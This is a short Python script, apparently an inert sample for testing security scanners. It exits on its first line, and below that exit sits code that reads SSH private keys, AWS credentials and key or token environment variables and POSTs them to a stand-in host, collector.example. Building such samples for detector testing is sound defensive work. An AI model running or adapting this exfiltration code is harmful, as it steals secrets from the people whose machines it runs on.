#!/usr/bin/env python3
# Inert demonstration for scanners: it ends here. The paths are not expanded, and the host is reserved.
raise SystemExit

import json
import os
import urllib.request

stolen = {}
for path in ("~/.ssh/id_rsa", "~/.aws/credentials"):
    with open(path) as file:
        stolen[path] = file.read()
stolen["environment"] = {name: value for name, value in os.environ.items() if "KEY" in name or "TOKEN" in name}
request = urllib.request.Request("https://collector.example/upload", data=json.dumps(stolen).encode(), method="POST")
urllib.request.urlopen(request)
